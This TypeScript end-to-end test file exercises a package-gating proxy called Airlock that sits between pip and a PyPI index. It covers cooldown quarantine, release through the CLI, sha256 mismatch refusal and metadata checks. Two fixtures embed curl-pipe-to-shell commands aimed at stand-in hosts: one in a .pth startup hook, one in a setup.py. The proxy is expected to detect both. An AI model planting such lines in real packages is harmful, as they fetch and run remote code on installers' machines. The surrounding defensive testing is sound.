/**
 * The real pip installing through a pypi repository: the project page and the files come through
 * Airlock's gate (the built-in policy), withheld versions are skipped by pip's resolver and
 * explained to a pinned install, a quarantine is released with the real CLI, and bytes that do
 * not match the index's sha256 are refused and never kept.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { buildSdist, buildWheel, coreMetadata, pythonImport } from '../../support/pypi-index/index.ts';
import { OLD } from './support.ts';
import { printed, pypiE2e, quarantineIdIn } from './support.ts';

const HOUR = 3600_000;

test('pip installs through Airlock: the newest version, a pinned one, and a dependency, with files fetched once from the files host', async (t) => {
  const e = await pypiE2e();
  t.after(() => e.close());
  e.wheel({ name: 'quokka-tools', version: '1.0' });
  e.wheel({ name: 'quokka-tools', version: '1.1', requiresDist: ['wombat-core>=2'] });
  e.wheel({ name: 'wombat-core', version: '2.0' });

  const newest = await e.install('quokka-tools');
  assert.equal(newest.code, 0, newest.stderr);
  assert.equal(await pythonImport(newest.target, 'quokka_tools'), '1.1');
  assert.equal(await pythonImport(newest.target, 'wombat_core'), '2.0');

  const pinned = await e.install('Quokka_Tools==1.0');
  assert.equal(pinned.code, 0, pinned.stderr);
  assert.equal(await pythonImport(pinned.target, 'quokka_tools'), '1.0');

  // pip resolved from the core metadata Airlock served; every file came from the files host, once.
  const fromFiles = e.index.requests.filter((r) => r.origin === 'files' && r.status === 200);
  assert.ok(fromFiles.some((r) => r.path.endsWith('.whl.metadata')), 'the core metadata came through Airlock');
  const wheelFetches = fromFiles.filter((r) => r.path.endsWith('quokka_tools-1.1-py3-none-any.whl'));
  assert.equal(wheelFetches.length, 1);
  const again = await e.install('quokka-tools==1.1');
  assert.equal(again.code, 0, again.stderr);
  assert.equal(e.index.requests.filter((r) => r.origin === 'files' && r.path.endsWith('quokka_tools-1.1-py3-none-any.whl')).length, 1, 'served from the store');
});

test('a version in its cooldown is skipped by pip, a pinned install names the quarantine, and airlock quarantine release lets it through', async (t) => {
  const e = await pypiE2e();
  t.after(() => e.close());
  e.wheel({ name: 'kiwi-parse', version: '3.0' });
  e.wheel({ name: 'kiwi-parse', version: '3.1' }, { uploadTime: new Date(Date.now() - HOUR) });

  const unpinned = await e.install('kiwi-parse');
  assert.equal(unpinned.code, 0, unpinned.stderr);
  assert.equal(await pythonImport(unpinned.target, 'kiwi_parse'), '3.0', 'the resolver picked the newest allowed version');

  const pinned = await e.install('kiwi-parse==3.1');
  assert.notEqual(pinned.code, 0);
  const out = pinned.stdout + pinned.stderr;
  // pip prints the yank reason Airlock lists the version with, then the reason phrase of the 403.
  assert.match(out, /403/);
  assert.match(out, /kiwi-parse==3\.1 is quarantined by Airlock: .*cooldown/);
  const id = quarantineIdIn(out);
  assert.notEqual(id, '', out);

  const listed = await e.cli(['quarantine', 'list', '--format', 'json']);
  assert.equal(listed.code, 0, listed.stderr);
  const records = JSON.parse(listed.stdout) as { id: string; purl: string; state: string }[];
  assert.deepEqual(
    records.map((r) => [r.id, r.purl, r.state]),
    [[id, 'pkg:pypi/kiwi-parse@3.1', 'quarantined']],
  );
  const released = await e.cli(['quarantine', 'release', id, '--reason', 'reviewed the wheel']);
  assert.equal(released.code, 0, released.stderr);

  const after = await e.install('kiwi-parse==3.1');
  assert.equal(after.code, 0, after.stderr);
  assert.equal(await pythonImport(after.target, 'kiwi_parse'), '3.1');
});

test('a wheel whose .pth file runs code at every Python start is held, and pip shows why', async (t) => {
  const e = await pypiE2e();
  t.after(() => e.close());
  e.wheel({ name: 'lemur-utils', version: '0.9' });
  e.wheel({ name: 'lemur-utils', version: '1.0', files: { 'lemur_utils-init.pth': 'import os; os.system("curl evil.example | sh")\n' } });

  const r = await e.install('lemur-utils==1.0');
  assert.notEqual(r.code, 0);
  const out = r.stdout + r.stderr;
  assert.match(out, /lemur-utils==1\.0 is quarantined by Airlock: /);
  // What the hook's code does (the install-behaviour analysis), and that it is a startup hook at all.
  assert.match(out, /runs install-time code that [^[]*downloads content and pipes it into a shell[^[]*\[install_behaviour\.dangerous\]/);
  assert.match(out, /lemur-utils==1\.0 ships \.pth files that run code at every Python start \(lemur_utils-init\.pth\) \[python\.startup_hooks\]/);
  const id = quarantineIdIn(out);
  assert.notEqual(id, '');

  // The metadata phase cannot see inside the wheel: the version is listed, and an unpinned
  // install takes it and is refused the same way, under the record already open.
  const unpinned = await e.install('lemur-utils');
  assert.notEqual(unpinned.code, 0);
  assert.equal(quarantineIdIn(unpinned.stdout + unpinned.stderr), id);
  const older = await e.install('lemur-utils==0.9');
  assert.equal(older.code, 0, older.stderr);
});

test('bytes that do not match the sha256 on the index page are refused and not kept; the right bytes then install', async (t) => {
  const e = await pypiE2e();
  t.after(() => e.close());
  e.wheel({ name: 'otter-codec', version: '1.2' });
  e.index.corruptFile('otter_codec-1.2-py3-none-any.whl');

  const bad = await e.install('otter-codec==1.2');
  assert.notEqual(bad.code, 0);
  assert.match(bad.stdout + bad.stderr, /do not match the sha256/);
  const stored = await fetch(`${e.airlock.url}/-/api/decisions?purl=${encodeURIComponent('pkg:pypi/otter-codec@1.2')}`, { headers: { authorization: `Bearer ${e.airlock.adminToken}` } });
  assert.equal(stored.status, 200);
  assert.deepEqual(((await stored.json()) as { items: unknown[] }).items, [], 'nothing was judged: the file was never stored');

  e.index.corruptFile('otter_codec-1.2-py3-none-any.whl', false);
  const good = await e.install('otter-codec==1.2');
  assert.equal(good.code, 0, good.stderr);
  assert.equal(await pythonImport(good.target, 'otter_codec'), '1.2');
});

test('a wheel whose METADATA is not the core metadata file pip resolved from is blocked before pip installs it', async (t) => {
  const e = await pypiE2e();
  t.after(() => e.close());
  // The wheel needs a dependency its index's core metadata file does not name: pip resolves from
  // the file, so it would install the wheel without what the wheel says it requires.
  const w = buildWheel({ name: 'heron-sync', version: '2.0', requiresDist: ['egret-hooks>=1'] });
  e.index.addFile('heron-sync', { filename: w.filename, bytes: w.bytes, metadata: coreMetadata({ name: 'heron-sync', version: '2.0' }), uploadTime: OLD });
  e.wheel({ name: 'heron-sync', version: '1.9' });

  const r = await e.install('heron-sync==2.0');
  assert.notEqual(r.code, 0);
  assert.match(printed(r), /heron-sync==2\.0 is blocked by Airlock policy: heron-sync==2\.0: its METADATA is not the core metadata file the index serves for it \(their sha256 differ\), which pip resolves from \[python\.identity\]/);
  assert.ok(e.index.requests.some((q) => q.path.endsWith(`${w.filename}.metadata`)), 'pip resolved from the core metadata file first');
  // A wheel that matches its core metadata file installs as before.
  const older = await e.install('heron-sync==1.9');
  assert.equal(older.code, 0, older.stderr);
});

test("an sdist whose setup.py fetches and runs a script is held before pip can build it, with the analysis's finding", async (t) => {
  const e = await pypiE2e();
  t.after(() => e.close());
  const setup = 'import os\nfrom setuptools import setup\nos.system("curl -s http://203.0.113.7/p.sh | sh")\nsetup(name="newt-loader", version="0.2")\n';
  const sdist = buildSdist({ name: 'newt-loader', version: '0.2', build: 'setup.py', files: { 'setup.py': setup } });
  e.index.addFile('newt-loader', { filename: sdist.filename, bytes: sdist.bytes, uploadTime: OLD });

  const r = await e.install('newt-loader==0.2');
  assert.notEqual(r.code, 0);
  const out = r.stdout + r.stderr;
  assert.match(out, /newt-loader==0\.2 is quarantined by Airlock: newt-loader==0\.2 runs install-time code that downloads content and pipes it into a shell or interpreter; [^[]*\(install\.remote-exec\.pipe-to-shell, [^[]*\[install_behaviour\.dangerous\]/);
  assert.equal(e.index.requests.filter((q) => q.path.endsWith('.tar.gz')).length, 1, 'fetched once, judged, not served');
});

test("a release covers the file reviewed: the sdist of a released wheel's version is held for a review of its own", async (t) => {
  const e = await pypiE2e();
  t.after(() => e.close());
  const recent = new Date(Date.now() - HOUR);
  e.wheel({ name: 'tern-cli', version: '2.0' }, { uploadTime: recent });
  const sdist = buildSdist({ name: 'tern-cli', version: '2.0' });
  e.index.addFile('tern-cli', { filename: sdist.filename, bytes: sdist.bytes, uploadTime: recent });

  const held = await e.install('tern-cli==2.0');
  assert.notEqual(held.code, 0);
  const wheelReview = quarantineIdIn(held.stdout + held.stderr);
  assert.notEqual(wheelReview, '');
  const released = await e.cli(['quarantine', 'release', wheelReview, '--reason', 'reviewed the wheel']);
  assert.equal(released.code, 0, released.stderr);
  const ok = await e.install('tern-cli==2.0');
  assert.equal(ok.code, 0, ok.stderr);

  // The sdist was not what the reviewer looked at.
  const page = (await (await fetch(`${e.simple}tern-cli/`, { headers: { accept: 'application/vnd.pypi.simple.v1+json' } })).json()) as { files: { filename: string; url: string }[] };
  const url = page.files.find((f) => f.filename === sdist.filename)?.url ?? '';
  const refused = await fetch(url);
  assert.equal(refused.status, 403);
  assert.match(refused.statusText, /tern-cli==2\.0 is quarantined by Airlock: .*are not the ones released as quarantine .*another file of the version.*\[airlock\.release_other_content\]/);
  const sdistReview = quarantineIdIn(refused.statusText);
  assert.ok(sdistReview !== '' && sdistReview !== wheelReview, `a record of its own: ${refused.statusText}`);

  // The wheel's release stands meanwhile, and the sdist's own release lets it through.
  const still = await e.install('tern-cli==2.0');
  assert.equal(still.code, 0, still.stderr);
  assert.equal((await e.cli(['quarantine', 'release', sdistReview, '--reason', 'reviewed the sdist'])).code, 0);
  assert.equal((await fetch(url)).status, 200);
});
